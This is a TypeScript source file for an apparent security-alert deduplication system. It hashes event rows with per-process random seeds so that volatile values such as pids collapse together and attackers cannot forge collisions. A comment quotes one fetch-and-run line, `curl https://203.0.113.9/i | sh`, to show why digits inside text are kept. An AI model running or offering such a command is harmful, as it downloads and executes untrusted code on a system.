import { randomBytes } from 'crypto';
import { VOLATILE } from '../scorer/features/generalise';

// What makes two retained rows the same event when an answer must choose among a subject's
// rows (state/answer-keep.ts): the same query, event and columns, where the value of a column
// the scorer already calls volatile (scorer/features/generalise.ts VOLATILE: a pid, a time, an
// inode, a size; it changes on every row without changing the behaviour), when all digits,
// counts as any other such value but zero. Every other value keeps its digits: a uid, euid or
// auid (`"euid":"0"` is not a repeat of the same user's flood under `"euid":"1001"`), a port,
// a column of a table nobody listed; and digits inside text, so `curl https://203.0.113.9/i |
// sh` is not a repeat of the same line to another address, which a user flooding with one
// could otherwise hide the other behind. Zero stays apart even where digits are volatile: a
// gid of 0 is root's group. A value is a JSON string read whole (its escapes included), so a
// user's text that spells `"pid":"1"` inside a value is text.
//
// A digest of 53 bits, from two 32-bit FNV-1a-like lanes (different multipliers, each
// finalised) whose starting states are drawn at random for each process: a user who wants
// their real alert taken for a repeat of their own flood cannot make a row that collides
// with it offline, and a million distinct events collide by chance with odds of about 1 in
// 20,000.

const seeds = randomBytes(8);
const SEED_A = seeds.readUInt32LE(0);
const SEED_B = seeds.readUInt32LE(4);
/** what stands for a volatile column's value of digits, zero and any other */
const ZERO = 0x30;
const DIGITS = 0x4e;
const QUOTE = 0x22;
const BACKSLASH = 0x5c;
const COLON = 0x3a;
const isDigit = (c: number): boolean => c >= 0x30 && c <= 0x39;

/** lane b's multiplier (lane a's is FNV's prime): the two lanes are different functions of a text */
const LANE_B = 0x5bd1e995;

/** the 53-bit digest of `parts` together, a volatile column's digits alike */
export function eventDigest(...parts: string[]): number {
  let a = SEED_A;
  let b = SEED_B;
  const mix = (u: number): void => {
    a = Math.imul(a ^ u, 0x01000193);
    b = Math.imul(b ^ u, LANE_B);
  };
  for (const text of parts) {
    /** the key of the value that may come next (`"key":`), volatile or not */
    let volatileKey = false;
    for (let i = 0; i < text.length; i++) {
      const u = text.charCodeAt(i);
      if (u !== QUOTE) {
        mix(u);
        continue;
      }
      // a string, read to its closing quote past its escapes
      let j = i + 1;
      let digits = true;
      let zero = true;
      for (; j < text.length; j++) {
        const c = text.charCodeAt(j);
        if (c === QUOTE) break;
        if (c === BACKSLASH) j++;
        if (!isDigit(c)) digits = false;
        else if (c !== ZERO) zero = false;
      }
      const isValue = i > 0 && text.charCodeAt(i - 1) === COLON;
      if (isValue && volatileKey && digits && j > i + 1 && j < text.length) {
        mix(QUOTE);
        mix(zero ? ZERO : DIGITS);
        mix(QUOTE);
      } else for (let k = i; k <= j && k < text.length; k++) mix(text.charCodeAt(k));
      volatileKey = text.charCodeAt(j + 1) === COLON && VOLATILE.has(text.slice(i + 1, j));
      i = j;
    }
    // a separator no text holds, so that ("ab", "c") and ("a", "bc") differ
    mix(0x10000);
  }
  return fmix(a) * 2 ** 21 + (fmix(b) >>> 11);
}

/** MurmurHash3's finaliser: a multiply-and-xor lane's low bits depend on its input's low bits only */
function fmix(h: number): number {
  h ^= h >>> 16;
  h = Math.imul(h, 0x85ebca6b);
  h ^= h >>> 13;
  h = Math.imul(h, 0xc2b2ae35);
  return (h ^ (h >>> 16)) >>> 0;
}
